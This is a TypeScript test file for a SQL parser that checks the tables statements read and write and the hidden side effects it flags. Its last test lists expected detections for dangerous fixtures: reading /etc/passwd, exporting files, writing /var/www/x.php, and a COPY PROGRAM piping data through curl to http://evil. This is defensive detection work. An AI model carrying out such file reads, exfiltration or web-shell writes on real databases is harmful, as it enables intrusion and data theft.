import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { SqlDialect } from '@dataing/ports';
import { expect, test } from 'vitest';
import { parseSql } from '../../src/grammar/index.ts';
import { resolveNames } from '../../src/scope/index.ts';

const ROOT = join(import.meta.dirname, '../../../..');
const PATH = resolve(ROOT, process.env.DATAING_FIXTURES ?? '../shared', 'sql/statements.json');

interface Statement {
  readonly id: string;
  readonly dialect: SqlDialect;
  readonly sql: string;
  readonly invalid?: number;
  readonly reads?: readonly string[];
  readonly writes?: readonly string[];
}

const statements: readonly Statement[] = JSON.parse(readFileSync(PATH, 'utf8')).filter(
  ({ invalid }: Statement) => invalid === undefined,
);

function uses({ sql, dialect }: Statement) {
  const resolved = parseSql(sql, { dialect }).statements.map((each) =>
    resolveNames(each, { dialect, text: sql }),
  );
  const names = (of: 'reads' | 'writes') => {
    const tables = resolved.flatMap((each) => each[of].filter(({ table }) => table.file !== true));
    return [...new Set(tables.map(({ table }) => String(table.name.split('.').at(-1))))].sort();
  };
  return {
    reads: names('reads'),
    writes: names('writes'),
    effects: resolved.flatMap((each) => each.effects),
  };
}

test.each(statements.filter(({ writes }) => writes !== undefined))(
  '$id writes what it writes',
  (statement) => {
    expect(uses(statement).writes).toEqual([...(statement.writes ?? [])].sort());
  },
);

test.each(statements.filter(({ reads }) => reads !== undefined))('$id reads what it reads', (statement) => {
  const expected = [...(statement.reads ?? [])].sort();
  // A target whose columns are named in conditions and values is read too; the list says what is read beside it.
  const { reads } = uses(statement);
  expect(reads.filter((name) => expected.includes(name) || !statement.writes?.includes(name))).toEqual(
    expected,
  );
});

test.each([
  [
    'pg_func_danger',
    ['reads_file pg_read_file: /etc/passwd', 'writes_file lo_export: /tmp/x', 'runs_sql dblink: host=x'],
  ],
  ['pg_copyprog', ['runs_program curl -d @- http://evil']],
  ['pg_copyfrom', ['reads_file /etc/passwd']],
  ['my_outfile', ['writes_file /var/www/x.php']],
  ['my_load', ['reads_file /etc/passwd']],
  ['tr_tvf', ['runs_sql query: DELETE FROM t']],
  ['dk_readfile', ['reads_file read_csv_auto: /etc/passwd', 'reads_file glob: *']],
  ['pg_do', ['unknown do']],
  ['pg_dollar', []],
])('%s has the effects that hide in it', (id, expected) => {
  const statement = statements.find((each) => each.id === id);
  expect(uses(statement as Statement).effects.map(({ kind, detail }) => `${kind} ${detail}`)).toEqual(
    expected,
  );
});
